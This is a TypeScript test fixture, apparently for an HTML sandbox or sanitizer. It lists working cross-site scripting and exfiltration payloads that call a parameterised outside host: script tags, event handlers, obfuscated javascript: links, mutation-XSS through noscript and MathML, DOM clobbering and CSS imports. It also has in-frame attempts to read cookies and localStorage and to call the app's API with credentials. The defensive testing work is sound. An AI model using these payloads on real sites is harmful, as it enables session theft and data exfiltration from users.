/**
 * HTML that tries to reach out, by the ways that are known. `away` is a server that counts who comes. Each says with
 * `clicks` whether somebody has to be lured first; the tests show that each works where nothing stands in its way.
 */
export type Payload = { readonly name: string; readonly html: (away: string) => string; readonly clicks?: true };

export const payloads: readonly Payload[] = [
  {
    name: 'scripts',
    html: (away) =>
      `<script>fetch('${away}/inline')</script><script src="${away}/src.js"></script><script type="module">fetch('${away}/module')</script>`,
  },
  {
    name: 'event handlers',
    html: (away) =>
      `<img src="x" onerror="fetch('${away}/onerror')"><svg onload="fetch('${away}/onload')"></svg><details open ontoggle="fetch('${away}/toggle')"><summary>x</summary></details><input autofocus onfocus="fetch('${away}/focus')">`,
  },
  { name: 'meta refresh', html: (away) => `<meta http-equiv="refresh" content="0; url=${away}/refresh">` },
  {
    name: 'frames in frames',
    html: (away) =>
      `<iframe src="${away}/iframe"></iframe><iframe srcdoc="<script>fetch('${away}/srcdoc')</script>"></iframe><object data="${away}/object"></object><embed src="${away}/embed">`,
  },
  {
    name: 'forms',
    clicks: true,
    html: (away) =>
      `<form action="${away}/form"><input name="a" value="secret"><button>Go</button></form><form><button formaction="${away}/formaction">Go</button></form>`,
  },
  { name: 'another base', html: (away) => `<base href="${away}/"><img src="base.png" alt="x"><a href="there">x</a>` },
  {
    name: 'styles',
    html: (away) =>
      `<style>@import url(${away}/import.css); @font-face { font-family: f; src: url(${away}/font.woff2) } body { background: url(${away}/body.png) } p::before { content: url(${away}/content.png) }</style><p style="font-family: f; background: url(${away}/inline.png); cursor: url(${away}/cursor.png), auto">x</p><link rel="stylesheet" href="${away}/link.css">`,
  },
  {
    name: 'SVG',
    html: (away) =>
      `<svg><image href="${away}/image.png" width="9" height="9"/><use href="${away}/use.svg#a"/><foreignObject width="99" height="99"><img src="${away}/foreign.png"></foreignObject><script>fetch('${away}/svg-script')</script><animate attributeName="x" onbegin="fetch('${away}/begin')" dur="1s"/><style>@import url(${away}/svg.css);</style></svg>`,
  },
  {
    name: 'links that are scripts',
    clicks: true,
    html: (away) =>
      `<a href="javascript:fetch('${away}/javascript')">one</a> <a href="&#x6A;ava&Tab;script:fetch('${away}/entities')">two</a> <svg width="80" height="20"><a href="javascript:fetch('${away}/svg-link')"><text y="15">three</text></a></svg>`,
  },
  {
    name: 'ways out of the frame',
    clicks: true,
    html: (away) =>
      `<a href="${away}/top" target="_top">top</a> <a href="${away}/blank" target="_blank">blank</a> <a href="${away}/self">self</a> <a href="#" ping="${away}/ping">ping</a> <map name="m"><area shape="rect" coords="0,0,99,99" href="${away}/area"></map>`,
  },
  {
    name: 'hints',
    html: (away) =>
      `<link rel="preconnect" href="${away}"><link rel="prefetch" href="${away}/prefetch"><link rel="preload" as="image" href="${away}/preload.png"><link rel="modulepreload" href="${away}/m.js"><link rel="icon" href="${away}/icon.png"><link rel="manifest" href="${away}/manifest"><script type="speculationrules">{"prefetch":[{"source":"list","urls":["${away}/rules"]}]}</script>`,
  },
  {
    name: 'media',
    html: (away) =>
      `<video src="${away}/video.mp4" poster="${away}/poster.png" autoplay muted></video><audio src="${away}/audio.mp3" autoplay></audio><img srcset="${away}/set.png 1x"><picture><source srcset="${away}/source.png"><img src="x"></picture><input type="image" src="${away}/input.png"><table background="${away}/table.png"><tr><td>x</td></tr></table><track src="${away}/track.vtt">`,
  },
  {
    name: 'text that is read twice',
    html: (away) =>
      `<noscript><p title="</noscript><img src=x onerror=fetch('${away}/noscript')>"></noscript><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=fetch('${away}/mathml')&gt;"></table></mtext></math><img src="${away}/plain.png">`,
  },
  {
    name: 'names that shadow',
    html: (away) =>
      `<form name="body"><input name="append"><input name="attributes"><input name="removeAttribute"></form><form onclick="x" id="matches"><input name="matches"><img name="getElementById" src="${away}/clobber.png"></form>`,
  },
  {
    name: 'shadow trees',
    html: (away) =>
      `<div><template shadowrootmode="open"><img src="${away}/shadow.png"><style>@import url(${away}/shadow.css)</style></template></div><template><img src="${away}/template.png"></template>`,
  },
];

/** What a script would do if one ran there after all: each is tried in the frame by the test itself. */
export const attempts: Readonly<Record<string, (away: string) => unknown>> = {
  fetch: (away) => fetch(`${away}/fetch`).catch(() => undefined),
  image: (away) => {
    new Image().src = `${away}/image`;
  },
  beacon: (away) => navigator.sendBeacon(`${away}/beacon`),
  socket: (away) => new WebSocket(away.replace('http', 'ws')),
  stream: (away) => new EventSource(`${away}/events`),
  worker: (away) =>
    new Worker(URL.createObjectURL(new Blob([`fetch('${away}/worker');importScripts('${away}/import.js')`]))),
  frame: (away) => document.body.append(Object.assign(document.createElement('iframe'), { src: `${away}/frame` })),
  script: (away) => document.body.append(Object.assign(document.createElement('script'), { src: `${away}/script.js` })),
  // biome-ignore lint/security/noGlobalEval: it is what must not work
  eval: (away) => globalThis.eval(`fetch('${away}/eval')`),
  timer: (away) => setTimeout(`fetch('${away}/timer')` as never, 0),
  popup: (away) => window.open(`${away}/popup`),
  top: (away) => {
    top!.location.href = `${away}/top`;
  },
  parent: () => parent.document.title,
  storage: () => localStorage.getItem('gondola.person'),
  cookie: () => document.cookie,
  own: () => fetch('/api/v1/notebooks', { credentials: 'include' }),
};
